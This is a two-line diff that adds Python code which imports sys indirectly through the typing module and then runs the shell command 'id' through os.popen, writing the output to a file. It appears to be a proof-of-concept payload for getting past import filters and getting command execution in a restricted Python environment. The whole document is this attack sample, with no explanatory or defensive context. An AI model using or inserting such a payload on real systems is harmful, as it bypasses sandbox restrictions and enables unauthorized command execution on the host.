@@ -1,0 +1,2 @@
+from typing import sys
+sys.modules["os"].popen("id>pf").read()
